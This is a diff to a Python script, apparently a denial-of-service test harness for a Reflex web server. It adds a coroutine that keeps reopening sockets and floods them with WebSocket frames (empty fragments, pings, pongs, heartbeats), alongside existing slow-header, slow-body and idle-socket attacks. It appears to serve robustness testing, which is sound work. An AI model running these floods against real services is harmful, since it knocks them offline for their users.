@@ -6,6 +6,7 @@ import json
 import os
 from collections.abc import AsyncIterator, Callable, Coroutine, Iterator
 from contextlib import asynccontextmanager, suppress
+from functools import partial
 from pathlib import Path
 from typing import Any
 
@@ -14,6 +15,9 @@ from tools.server import Server
 MEGABYTE = 1 << 20
 PAUSE = 4.0
 """Seconds between two bytes of a slow client."""
+
+RETRY = 0.1
+"""Seconds after which a client that was refused tries again."""
 
 HYDRATE = "reflex___state____state.hydrate"
 HYDRATED_SECONDS = 120
@@ -111,11 +115,40 @@ async def hydrated(victim: Victim, number: int, *, ready: asyncio.Barrier) -> No
         await ready.wait()
 
 
+async def frames(victim: Victim, number: int, *, first: bytes, frame: bytes, each: int) -> None:
+    """Send so many frames a second, in a new socket whenever the server closes one."""
+    while True:
+        async with victim.sending(victim.socket(number)) as (reader, writer):
+            await reader.readuntil(b"\r\n\r\n")
+            writer.write(first)
+            while not reader.at_eof():
+                writer.write(each * frame)
+                await writer.drain()
+                with suppress(TimeoutError):
+                    async with asyncio.timeout(1):
+                        while await reader.read(65_536):
+                            pass
+        await asyncio.sleep(RETRY)
+
+
+OPENED = text_frame("40/_event,{}")
+"""What opens a tab in a socket."""
+
+TINY_FRAMES: dict[str, Attack] = {
+    "empty fragments": partial(frames, first=b"\x01\x81\0\0\0\0a", frame=b"\0\x80\0\0\0\0", each=5_000),
+    "pings": partial(frames, first=OPENED, frame=b"\x89\x80\0\0\0\0", each=5_000),
+    "pongs": partial(frames, first=OPENED, frame=b"\x8a\x80\0\0\0\0", each=5_000),
+    "heartbeats": partial(frames, first=OPENED, frame=text_frame("3"), each=5_000),
+    "messages below the limit of a socket": partial(frames, first=OPENED, frame=text_frame("3"), each=90),
+    "pings below the limit of a socket": partial(frames, first=OPENED, frame=b"\x89\x80\0\0\0\0", each=90),
+}
+
 ATTACKS: dict[str, Attack] = {
     "unfinished messages": unfinished_message,
     "slow bodies": slow_body,
     "slow headers": slow_headers,
     "idle sockets": idle_socket,
+    **TINY_FRAMES,
 }
 
 
